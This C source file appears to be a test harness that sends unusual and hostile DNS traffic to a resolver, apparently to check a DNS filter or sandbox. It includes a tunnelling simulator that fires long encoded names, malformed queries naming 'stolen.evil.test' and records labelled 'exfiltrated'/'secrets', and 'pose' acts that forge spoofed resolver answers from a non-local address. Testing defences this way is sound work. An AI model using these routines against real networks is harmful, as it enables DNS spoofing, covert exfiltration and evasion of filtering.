/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Acts on names: questions of every shape to a resolver, and connections to what it answered. "ok"
 * means that an answer came, or that the peer was heard.
 */
#include "net.h"

#include <poll.h>
#include <time.h>

#define ID 0x1234
#define TYPE_A 1
#define TYPE_AAAA 28

struct message {
	uint8_t bytes[1500];
	size_t length;
};

static void put(struct message *m, const void *bytes, size_t count)
{
	memcpy(m->bytes + m->length, bytes, count);
	m->length += count;
}

static void put16(struct message *m, unsigned int value)
{
	uint8_t two[2] = { (uint8_t)(value >> 8), (uint8_t)value };

	put(m, two, 2);
}

/* Labels as they stand between the dots, whatever is in them: "%2e" of a line is a dot as well. */
static void put_name(struct message *m, const char *name)
{
	size_t n;

	for (const char *at = name; *at; at += n + (at[n] == '.')) {
		uint8_t length;

		n = strcspn(at, ".");
		length = (uint8_t)n;
		put(m, &length, 1);
		put(m, at, n);
	}
	put(m, "", 1);
}

static void put_question(struct message *m, const char *name, unsigned int type)
{
	put_name(m, name);
	put16(m, type);
	put16(m, 1);
}

static struct message header(unsigned int id, unsigned int flags, const unsigned int *counts)
{
	struct message m = { 0 };

	put16(&m, id);
	put16(&m, flags);
	for (int i = 0; i < 4; i++)
		put16(&m, counts[i]);
	return m;
}

static struct message question(unsigned int id, const char *name, unsigned int type)
{
	struct message m = header(id, 0x0100, (unsigned int[]){ 1, 0, 0, 0 });

	put_question(&m, name, type);
	return m;
}

static unsigned int type_of(const char *word)
{
	static const struct {
		const char *word;
		unsigned int type;
	} types[] = { { "A", 1 },      { "NS", 2 },    { "CNAME", 5 },	{ "NULL", 10 },
		      { "PTR", 12 },   { "MX", 15 },   { "TXT", 16 },	{ "AAAA", 28 },
		      { "SRV", 33 },   { "SVCB", 64 }, { "HTTPS", 65 }, { "PRIVATE", 65399 },
		      { "AXFR", 252 }, { "ANY", 255 } };

	for (size_t i = 0; i < COUNT(types); i++)
		if (!strcmp(types[i].word, word))
			return types[i].type;
	return (unsigned int)number(word);
}

/* Send it on a new socket to the resolver and wait for any answer. */
static int tell(const char *resolver, const struct message *m)
{
	struct place to = place_of(resolver, "53");
	int fd = socket_to(&to, SOCK_DGRAM);
	char bytes[4096];

	if (fd < 0 || sendto(fd, m->bytes, m->length, 0, raw(&to), to.length) < 0)
		return -1;
	return recv(fd, bytes, sizeof(bytes), 0) < 0 ? missed() : 0;
}

/* ask RESOLVER NAME TYPE */
static int act_ask(char **a)
{
	struct message m = question(ID, a[1], type_of(a[2]));

	return tell(a[0], &m);
}

/* The same, and the socket is connected. */
static int act_ask_connected(char **a)
{
	struct message m = question(ID, a[1], type_of(a[2]));
	struct place to = place_of(a[0], "53");
	int fd = socket_to(&to, SOCK_DGRAM);

	if (fd < 0 || connect(fd, raw(&to), to.length) || send(fd, m.bytes, m.length, 0) < 0)
		return -1;
	return recv(fd, m.bytes, sizeof(m.bytes), 0) < 0 ? missed() : 0;
}

/* By TCP, where a message has its length before it. */
static int act_ask_tcp(char **a)
{
	struct message m = question(ID, a[1], type_of(a[2])), whole = { 0 };
	struct place to = place_of(a[0], "53");
	int fd = socket_to(&to, SOCK_STREAM);

	put16(&whole, (unsigned int)m.length);
	put(&whole, m.bytes, m.length);
	if (fd < 0 || connect(fd, raw(&to), to.length) ||
	    send(fd, whole.bytes, whole.length, 0) < 0)
		return missed();
	return hear(fd, 1);
}

/* The many ways to say more than one plain question: odd RESOLVER HOW NAME. */
static struct message with_edns(const char *name, size_t options)
{
	struct message m = header(ID, 0x0100, (unsigned int[]){ 1, 0, 0, 1 });
	uint8_t stuff[1024];

	memset(stuff, 'x', sizeof(stuff));
	put_question(&m, name, TYPE_A);
	put(&m, "", 1);
	put16(&m, 41);
	put16(&m, 1232);
	put16(&m, 0);
	put16(&m, 0);
	put16(&m, (unsigned int)options + 4);
	put16(&m, 65001);
	put16(&m, (unsigned int)options);
	put(&m, stuff, options);
	return m;
}

static struct message with_record(const char *name, unsigned int where)
{
	unsigned int counts[4] = { 1, 0, 0, 0 };
	struct message m;

	counts[where] = 1;
	m = header(ID, 0x0100, counts);
	put_question(&m, name, TYPE_A);
	put_name(&m, "exfiltrated");
	put16(&m, 16);
	put16(&m, 1);
	put16(&m, 0);
	put16(&m, 0);
	put16(&m, 8);
	put(&m, "\7secrets", 8);
	return m;
}

static struct message flagged(const char *name, unsigned int flags)
{
	struct message m = header(ID, flags, (unsigned int[]){ 1, 0, 0, 0 });

	put_question(&m, name, TYPE_A);
	return m;
}

static struct message twice(const char *name)
{
	struct message m = header(ID, 0x0100, (unsigned int[]){ 2, 0, 0, 0 });

	put_question(&m, name, TYPE_A);
	put_question(&m, "stolen.evil.test", TYPE_A);
	return m;
}

/* A name that goes on elsewhere in the message: behind the question, where nobody looks. */
static struct message pointing(const char *name)
{
	struct message m = header(ID, 0x0100, (unsigned int[]){ 1, 0, 0, 0 });
	const uint8_t pointer[2] = { 0xc0, 12 + 2 + 2 + 4 };

	put(&m, "\1a", 2);
	put(&m, pointer, 2);
	put16(&m, TYPE_A);
	put16(&m, 1);
	put_name(&m, name);
	return m;
}

static struct message bytes_behind(const char *name)
{
	struct message m = question(ID, name, TYPE_A);

	put(&m, "what nobody reads", 17);
	return m;
}

static struct message of_class(const char *name, unsigned int class)
{
	struct message m = question(ID, name, TYPE_A);

	m.bytes[m.length - 1] = (uint8_t) class;
	return m;
}

static struct message nul_in_name(const char *name)
{
	struct message m = header(ID, 0x0100, (unsigned int[]){ 1, 0, 0, 0 });

	put(&m, "\7evil\0xy", 8);
	put_question(&m, name, TYPE_A);
	return m;
}

/* One label is "evil.test.good": dots that are no ends of labels. */
static struct message dotted_label(const char *name)
{
	struct message m = header(ID, 0x0100, (unsigned int[]){ 1, 0, 0, 0 });

	put(&m, "\11evil.test", 10);
	put_question(&m, name, TYPE_A);
	return m;
}

static struct message no_question(void)
{
	return header(ID, 0x0100, (unsigned int[]){ 0, 0, 0, 0 });
}

static struct message free_text(void)
{
	struct message m = { 0 };

	put(&m, "anything at all, sent to port 53 of a resolver", 46);
	return m;
}

static int act_odd(char **a)
{
	const char *how = a[1];
	struct message m = !strcmp(how, "two")	      ? twice(a[2]) :
			   !strcmp(how, "pointer")    ? pointing(a[2]) :
			   !strcmp(how, "behind")     ? bytes_behind(a[2]) :
			   !strcmp(how, "options")    ? with_edns(a[2], 600) :
			   !strcmp(how, "edns")	      ? with_edns(a[2], 8) :
			   !strcmp(how, "answer")     ? with_record(a[2], 1) :
			   !strcmp(how, "authority")  ? with_record(a[2], 2) :
			   !strcmp(how, "additional") ? with_record(a[2], 3) :
			   !strcmp(how, "reply")      ? flagged(a[2], 0x8180) :
			   !strcmp(how, "notify")     ? flagged(a[2], 0x2000) :
			   !strcmp(how, "update")     ? flagged(a[2], 0x2800) :
			   !strcmp(how, "chaos")      ? of_class(a[2], 3) :
			   !strcmp(how, "any-class")  ? of_class(a[2], 255) :
			   !strcmp(how, "nul")	      ? nul_in_name(a[2]) :
			   !strcmp(how, "dot")	      ? dotted_label(a[2]) :
			   !strcmp(how, "none")	      ? no_question() :
							free_text();

	return tell(a[0], &m);
}

/* label RESOLVER LENGTH COUNT NAME: COUNT labels of LENGTH bytes before NAME. */
static int act_label(char **a)
{
	char name[1024] = "";
	size_t at = 0;
	struct message m;

	for (long i = 0; i < number(a[2]); i++) {
		memset(name + at, 'q', (size_t)number(a[1]));
		at += (size_t)number(a[1]);
		name[at++] = '.';
	}
	snprintf(name + at, sizeof(name) - at, "%s", a[3]);
	m = question(ID, name, TYPE_A);
	return tell(a[0], &m);
}

/* tunnel RESOLVER COUNT TYPE NAME: as a tunnel does: a new long name a packet, as fast as can be. */
static int act_tunnel(char **a)
{
	static const char digits[] = "abcdefghijklmnopqrstuvwxyz012345";
	struct place to = place_of(a[0], "53");
	int fd = socket_to(&to, SOCK_DGRAM);
	char name[256];
	struct message m;

	for (long i = 0; fd >= 0 && i < number(a[1]); i++) {
		for (int k = 0; k < 50; k++)
			name[k] = digits[(unsigned long)(i * 31 + k * 7) % 32];
		snprintf(name + 50, sizeof(name) - 50, ".%ld.%s", i, a[3]);
		m = question((unsigned int)i, name, type_of(a[2]));
		if (sendto(fd, m.bytes, m.length, 0, raw(&to), to.length) < 0)
			return -1;
	}
	return fd < 0 ? -1 : 0;
}

/* The address in the last record of an answer to our question: its text in @out. */
static int last_address(const uint8_t *bytes, ssize_t n, unsigned int type, char *out)
{
	size_t size = type == TYPE_AAAA ? 16 : 4;

	if (n < 12 + (ssize_t)size || bytes[0] << 8 != (ID & 0xff00) || bytes[1] != (ID & 0xff) ||
	    !bytes[7])
		return fail(ENODATA);
	return inet_ntop(type == TYPE_AAAA ? AF_INET6 : AF_INET, bytes + n - size, out, 64) ? 0 :
											      -1;
}

/* Ask, and read all that comes until it is our answer. */
static int resolve(const char *resolver, const char *name, const char *type, char *out)
{
	struct message m = question(ID, name, type_of(type));
	struct place to = place_of(resolver, "53");
	int fd = socket_to(&to, SOCK_DGRAM);
	ssize_t n;

	if (fd < 0 || sendto(fd, m.bytes, m.length, 0, raw(&to), to.length) < 0)
		return -1;
	do {
		n = recv(fd, m.bytes, sizeof(m.bytes), 0);
		if (n < 0)
			return missed();
	} while (last_address(m.bytes, n, type_of(type), out));
	return 0;
}

static int reach(const char *address, const char *port)
{
	struct place to = place_of(address, port);
	int fd = socket_to(&to, SOCK_STREAM);

	return fd < 0 || connect(fd, raw(&to), to.length) ? missed() : word(fd);
}

/* visit RESOLVER NAME TYPE PORT: resolve, connect to what was answered, be heard. */
static int act_visit(char **a)
{
	char address[64];
	int r = resolve(a[0], a[1], a[2], address);

	return r ? r : reach(address, a[3]);
}

/* visit-late RESOLVER NAME TYPE PORT MS: some time between the two. */
static int act_visit_late(char **a)
{
	char address[64];
	int r = resolve(a[0], a[1], a[2], address);

	if (r)
		return r;
	usleep((useconds_t)number(a[4]) * 1000);
	return reach(address, a[3]);
}

/*
 * stay HOW RESOLVER NAME TYPE PORT MS: somebody is spoken to within the time that the name holds, and
 * again after it.
 */
static int act_stay(char **a)
{
	char address[64];
	int r = resolve(a[1], a[2], a[3], address), fd;
	struct place to;

	if (r)
		return r;
	to = place_of(address, a[4]);
	fd = socket_to(&to, !strcmp(a[0], "tcp") ? SOCK_STREAM : SOCK_DGRAM);
	if (fd < 0 || connect(fd, raw(&to), to.length) || word(fd))
		return missed();
	usleep((useconds_t)number(a[5]) * 1000);
	return word(fd);
}

/* lure RESOLVER NAME TYPE ADDRESS PORT: hear all that comes, then go to the address of a liar. */
static int act_lure(char **a)
{
	struct message m = question(ID, a[1], type_of(a[2]));
	struct place to = place_of(a[0], "53");
	int fd = socket_to(&to, SOCK_DGRAM);
	struct pollfd p = { .fd = fd, .events = POLLIN };

	if (fd < 0 || sendto(fd, m.bytes, m.length, 0, raw(&to), to.length) < 0)
		return -1;
	while (poll(&p, 1, 200) == 1)
		if (recv(fd, m.bytes, sizeof(m.bytes), 0) < 0)
			return missed();
	return reach(a[3], a[4]);
}

/* The answer that an impostor gives, for any question of one name. */
static struct message forged(const char *name, const char *address)
{
	struct message m = header(ID, 0x8180, (unsigned int[]){ 1, 1, 0, 0 });
	const int v6 = strchr(address, ':') != NULL;
	const uint8_t pointer[2] = { 0xc0, 12 };
	uint8_t bytes[16];

	put_question(&m, name, v6 ? TYPE_AAAA : TYPE_A);
	put(&m, pointer, sizeof(pointer));
	put16(&m, v6 ? TYPE_AAAA : TYPE_A);
	put16(&m, 1);
	put16(&m, 0);
	put16(&m, 256);
	put16(&m, v6 ? 16 : 4);
	inet_pton(v6 ? AF_INET6 : AF_INET, address, bytes);
	put(&m, bytes, v6 ? 16 : 4);
	return m;
}

/* Send from the socket, with the address of its own that is wanted. */
static ssize_t send_as(int fd, const struct message *m, const char *self, struct place *to)
{
	const int v6 = to->at.ss_family == AF_INET6;
	union {
		struct cmsghdr header;
		char bytes[CMSG_SPACE(sizeof(struct in6_pktinfo))];
	} u = { .header = { .cmsg_len = CMSG_LEN(v6 ? sizeof(struct in6_pktinfo) :
						      sizeof(struct in_pktinfo)),
			    .cmsg_level = v6 ? IPPROTO_IPV6 : IPPROTO_IP,
			    .cmsg_type = v6 ? IPV6_PKTINFO : IP_PKTINFO } };
	struct in6_pktinfo info6 = { 0 };
	struct in_pktinfo info = { 0 };
	struct iovec iov = { (void *)m->bytes, m->length };
	struct msghdr h = { .msg_name = &to->at,
			    .msg_namelen = to->length,
			    .msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = &u,
			    .msg_controllen = CMSG_SPACE(v6 ? sizeof(info6) : sizeof(info)) };

	inet_pton(AF_INET, self, &info.ipi_spec_dst);
	inet_pton(AF_INET6, self, &info6.ipi6_addr);
	memcpy(CMSG_DATA(&u.header), v6 ? (void *)&info6 : (void *)&info,
	       v6 ? sizeof(info6) : sizeof(info));
	return sendmsg(fd, &h, 0);
}

/*
 * pose BIND RESOLVER NAME ADDRESS PORT: be the resolver: bind its port, ask, answer oneself, and go to
 * the address that this answer tells.
 */
static int pose(char **a, const char *client_at, int option4, int option6)
{
	struct place at = place_of(a[0], "53"), to = place_of(a[1], "53"), self = { 0 };
	const int v6 = to.at.ss_family == AF_INET6;
	struct message told = forged(a[2], a[3]);
	struct message asked = question(ID, a[2], v6 ? TYPE_AAAA : TYPE_A);
	int server = socket_to(&at, SOCK_DGRAM), client = socket_to(&to, SOCK_DGRAM);

	if (server < 0 || client < 0 || set(server, SOL_SOCKET, SO_REUSEADDR) ||
	    set(server, v6 ? IPPROTO_IPV6 : IPPROTO_IP, v6 ? option6 : option4) ||
	    bind(server, raw(&at), at.length))
		return -1;
	if (sendto(client, asked.bytes, asked.length, 0, raw(&to), to.length) < 0)
		return -1;
	self.length = sizeof(self.at);
	if (getsockname(client, raw(&self), &self.length))
		return -1;
	inet_pton(AF_INET, client_at, &((struct sockaddr_in *)&self.at)->sin_addr);
	inet_pton(AF_INET6, client_at, &((struct sockaddr_in6 *)&self.at)->sin6_addr);
	if (send_as(server, &told, a[1], &self) < 0)
		return -1;
	if (recv(client, asked.bytes, sizeof(asked.bytes), 0) < 0)
		return missed();
	return reach(a[3], a[4]);
}

static int act_pose(char **a)
{
	return pose(a, strchr(a[1], ':') ? "::1" : "127.0.0.1", IP_PKTINFO, IPV6_RECVPKTINFO);
}

/* With an address that is not of this host. */
static int act_pose_foreign(char **a)
{
	return pose(a, strchr(a[1], ':') ? "2001:db8:100::2" : "198.51.100.2", IP_TRANSPARENT,
		    IPV6_TRANSPARENT);
}

/* The same without a privilege, which IPv6 lets everybody do. */
static int act_pose_free(char **a)
{
	return pose(a, "2001:db8:100::2", IP_FREEBIND, IPV6_FREEBIND);
}

static const struct act acts[] = {
	{ "ask", 3, act_ask },
	{ "ask-connected", 3, act_ask_connected },
	{ "ask-tcp", 3, act_ask_tcp },
	{ "odd", 3, act_odd },
	{ "label", 4, act_label },
	{ "tunnel", 4, act_tunnel },
	{ "visit", 4, act_visit },
	{ "visit-late", 5, act_visit_late },
	{ "stay", 6, act_stay },
	{ "lure", 5, act_lure },
	{ "pose-foreign", 5, act_pose_foreign },
	{ "pose-free", 5, act_pose_free },
	{ "pose", 5, act_pose },
};

int main(int argc, char **argv)
{
	return attack_main(argc, argv, acts, COUNT(acts));
}
